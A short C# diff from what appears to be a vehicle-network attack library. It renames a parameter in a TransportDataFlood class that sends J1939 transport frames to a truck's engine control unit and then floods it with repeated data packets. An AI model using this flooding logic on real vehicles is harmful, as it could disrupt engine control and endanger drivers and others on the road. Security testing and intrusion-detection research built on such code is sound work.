@@ -23,13 +23,13 @@ internal sealed class TransportDataFlood : VehicleAttack
 
     public override VehicleVariant Variant => VehicleVariant.Truck;
 
-    public override void Begin(VehicleNetwork network, Intensity intensity)
+    public override void Begin(VehicleNetwork network, Strength strength)
     {
         network.Main.Send(J1939Id.Frame(
             7, J1939Id.TransportManagement, TruckMessages.Tool, TruckMessages.Engine,
             [16, 0xFF, 0x00, 0x25, 0xFF, .. J1939Id.Number(J1939Id.SoftwareIdentification)]));
         network.Later(Milliseconds(5), () => network.Repeat(
-            Milliseconds(2), Milliseconds(2 * Packets.At(intensity)), i => network.Main.Send(J1939Id.Frame(
+            Milliseconds(2), Milliseconds(2 * Packets.At(strength)), i => network.Main.Send(J1939Id.Frame(
                 7, J1939Id.TransportData, TruckMessages.Tool, TruckMessages.Engine,
                 [(byte)(i + 1), 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41]))));
     }
